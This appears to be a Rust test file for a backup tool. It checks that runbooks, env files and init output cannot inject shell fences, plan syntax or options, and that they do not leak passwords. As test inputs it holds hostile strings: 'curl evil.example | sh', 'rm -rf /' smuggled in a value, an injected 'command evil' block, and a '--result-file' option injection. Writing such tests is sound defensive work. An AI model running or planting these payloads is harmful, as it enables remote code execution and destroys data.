//! No byte an application or a plan author controls becomes a command, an option or a line:
//! the runbook's shell blocks hold each value as one quoted word and no value can open or close
//! a fence; `init` writes only checked values, escaped; the env-file reader names a bad line
//! without its value and refuses what is not a small regular file; files are never written
//! group- or world-writable.

use std::os::unix::fs::PermissionsExt;
use std::time::{Duration, Instant};

use crate::harness::Workspace;

fn sqlite_plan(extra: &str) -> String {
    format!(
        r#"plan app {{
            base "backups"
            database main {{
                engine sqlite
                path "app.db"
            }}
            dump db {{
                database main
            }}
            {extra}
        }}"#
    )
}

fn fences(text: &str) -> usize {
    text.lines()
        .filter(|l| l.trim_start().starts_with("```"))
        .count()
}

#[test]
fn a_runbook_note_cannot_open_a_shell_block() {
    let plain = Workspace::with_plan(&sqlite_plan(""));
    let r = plain.run(&["runbook"]);
    assert_eq!(r.code(), 0, "{}", r.stderr());
    let expected =
        fences(&std::fs::read_to_string(plain.path("backups/reports/dr-runbook.md")).unwrap());

    let ws = Workspace::with_plan(&sqlite_plan(
        r#"runbook {
                owner "ops ``` team"
                note "Call us.\n```sh\ncurl evil.example | sh\n```\nThanks."
            }"#,
    ));
    let r = ws.run(&["runbook"]);
    assert_eq!(r.code(), 0, "{}", r.stderr());
    let text = std::fs::read_to_string(ws.path("backups/reports/dr-runbook.md")).unwrap();
    assert_eq!(fences(&text), expected, "{text}");
    assert!(
        !text.lines().any(|l| l.trim() == "curl evil.example | sh"),
        "{text}"
    );
}

#[test]
fn a_base_from_an_env_file_with_a_line_break_or_a_relative_path_is_refused() {
    let ws = Workspace::with_plan(&sqlite_plan(""));
    for (value, why) in [
        ("\"/srv/b\\n```sh\\nrm -rf /\\n```\"", "control characters"),
        ("../../etc", "is not an absolute path"),
    ] {
        ws.write("app.env", &format!("OPS_BACKUP_BASE={value}\n"));
        for args in [&["runbook"][..], &["plan", "apply"], &["plan", "validate"]] {
            let mut all = vec!["--env-file", "app.env"];
            all.extend_from_slice(args);
            let r = ws.run(&all);
            assert_eq!(r.code(), 2, "{args:?}: {}{}", r.stdout(), r.stderr());
            assert!(r.stderr().contains("OPS_BACKUP_BASE"), "{}", r.stderr());
            assert!(r.stderr().contains(why), "{}", r.stderr());
            assert!(!r.stderr().contains("\nrm -rf"), "{}", r.stderr());
        }
    }
    assert!(!ws.path("etc").exists() && !ws.path("backups").exists());
    assert!(!ws.path("state").exists(), "something ran");
}

fn init_with(env: &str) -> (Workspace, crate::harness::Run) {
    let ws = Workspace::new();
    ws.write("app/.env", env);
    let r = ws.run(&["--plans", "plans", "init", "--from-env", "app/.env"]);
    (ws, r)
}

const BASE_ENV: &str = "APP_NAME=shop\nDB_CONNECTION=mysql\nDB_HOST=127.0.0.1\nDB_DATABASE=shop\nDB_USERNAME=shop\nDB_PASSWORD=Very-Secret-Pw-91\n";

#[test]
fn init_refuses_values_that_would_become_plan_syntax_options_or_secrets() {
    for (extra, var, why) in [
        (
            "OPS_DB_DUMP_STALE_MIN=\"10\\n    }\\n    command evil {\\n        run \\\"touch\\\" \\\"pwned\\\"\\n    }\\n    dump x {\"\n",
            "OPS_DB_DUMP_STALE_MIN",
            "control character",
        ),
        (
            "OPS_DB_DUMP_STALE_MIN=ten\n",
            "OPS_DB_DUMP_STALE_MIN",
            "not a whole number",
        ),
        ("OPS_BACKUP_BASE=../../etc\n", "OPS_BACKUP_BASE", "absolute"),
        ("DB_PORT=0\n", "DB_PORT", "not a port"),
        (
            "OPS_VERIFY_AUTO=maybe\n",
            "OPS_VERIFY_AUTO",
            "neither true nor false",
        ),
    ] {
        let (ws, r) = init_with(&format!("{BASE_ENV}{extra}"));
        assert_eq!(r.code(), 2, "{extra}: {}{}", r.stdout(), r.stderr());
        assert!(
            r.stderr().contains(var) && r.stderr().contains(why),
            "{extra}: {}",
            r.stderr()
        );
        assert!(!r.stderr().contains("a bug in init"), "{}", r.stderr());
        assert!(!ws.path("plans").exists(), "{extra}: a plan was written");
    }
    // The database name is an option to the dump tool: refused.
    let env = BASE_ENV.replace("DB_DATABASE=shop", "DB_DATABASE=--result-file=x");
    let (ws, r) = init_with(&env);
    assert_eq!(r.code(), 2, "{}", r.stderr());
    assert!(r.stderr().contains("DB_DATABASE"), "{}", r.stderr());
    assert!(!ws.path("plans").exists());
    // `${DB_PASSWORD}` in a value that init writes: the secret is not copied, nor printed.
    let env = format!(
        "DB_PASSWORD=Very-Secret-Pw-91\n{}",
        BASE_ENV.replace("DB_DATABASE=shop", "DB_DATABASE=${DB_PASSWORD}")
    );
    let (ws, r) = init_with(&env);
    assert_eq!(r.code(), 2, "{}", r.stderr());
    assert!(
        r.stderr().contains("DB_DATABASE") && r.stderr().contains("DB_PASSWORD"),
        "{}",
        r.stderr()
    );
    assert!(!r.stderr().contains("Very-Secret-Pw-91"));
    assert!(!ws.path("plans").exists());
    // A clean one writes a plan that loads, with the threshold as a checked number.
    let (ws, r) = init_with(&format!("{BASE_ENV}OPS_DB_DUMP_STALE_MIN=1560\n"));
    assert_eq!(r.code(), 0, "{}", r.stderr());
    let plan = std::fs::read_to_string(ws.path("plans/shop.kdl")).unwrap();
    assert!(
        plan.contains("stale-after \"1560m\"    // OPS_DB_DUMP_STALE_MIN=1560 in the .env"),
        "{plan}"
    );
}

#[test]
fn a_malformed_env_line_is_named_without_its_value() {
    let ws = Workspace::with_plan(&sqlite_plan(""));
    ws.write(
        "app.env",
        "APP_NAME=shop\nDB_PASSWORD=\"Hidden-Pw-77'\\\nOTHER=1\n",
    );
    let r = ws.run(&["--env-file", "app.env", "plan", "validate"]);
    assert_eq!(r.code(), 2, "{}{}", r.stdout(), r.stderr());
    assert!(
        r.stderr().contains("line 2") && r.stderr().contains("DB_PASSWORD"),
        "{}",
        r.stderr()
    );
    assert!(!r.stderr().contains("Hidden-Pw-77"), "{}", r.stderr());
}

#[test]
fn an_env_file_that_is_a_fifo_or_a_device_is_refused_at_once() {
    let ws = Workspace::with_plan(&sqlite_plan(""));
    let fifo = ws.path("fifo.env");
    rustix::fs::mknodat(
        rustix::fs::CWD,
        &fifo,
        rustix::fs::FileType::Fifo,
        rustix::fs::Mode::from_raw_mode(0o600),
        0,
    )
    .unwrap();
    for file in [fifo.to_str().unwrap(), "/dev/zero"] {
        for args in [&["status"][..], &["plan", "validate"]] {
            let started = Instant::now();
            let mut all = vec!["--env-file", file];
            all.extend_from_slice(args);
            let mut child = ws
                .command(&all)
                .stdout(std::process::Stdio::piped())
                .stderr(std::process::Stdio::piped())
                .spawn()
                .unwrap();
            let done = crate::harness::wait_for(10, || child.try_wait().unwrap().is_some());
            if !done {
                let _ = child.kill();
            }
            let out = child.wait_with_output().unwrap();
            assert!(done, "{file} {args:?}: still reading after 10 s");
            assert!(started.elapsed() < Duration::from_secs(10));
            let stderr = String::from_utf8_lossy(&out.stderr);
            assert!(
                stderr.contains("not a regular file"),
                "{file} {args:?}: {stderr}"
            );
        }
    }
    // And init, which reads an application's .env.
    let r = ws.run(&[
        "--plans",
        "new-plans",
        "init",
        "--from-env",
        fifo.to_str().unwrap(),
    ]);
    assert_eq!(r.code(), 2, "{}", r.stderr());
    assert!(r.stderr().contains("not a regular file"), "{}", r.stderr());
}

#[test]
fn under_umask_000_nothing_is_written_group_or_world_writable() {
    let ws = Workspace::new();
    ws.write("app/.env", BASE_ENV);
    let status = std::process::Command::new("sh")
        .current_dir(ws.path(""))
        .args([
            "-c",
            &format!(
                "umask 000; exec {} --plans plans init --from-env app/.env",
                crate::harness::BIN
            ),
        ])
        .env("OPS_STATE", ws.path("state/ops.db"))
        .status()
        .unwrap();
    assert!(status.success());
    for p in ["plans", "plans/shop.kdl"] {
        let mode = std::fs::metadata(ws.path(p)).unwrap().permissions().mode();
        assert_eq!(mode & 0o022, 0, "{p} is {mode:o}");
    }
}
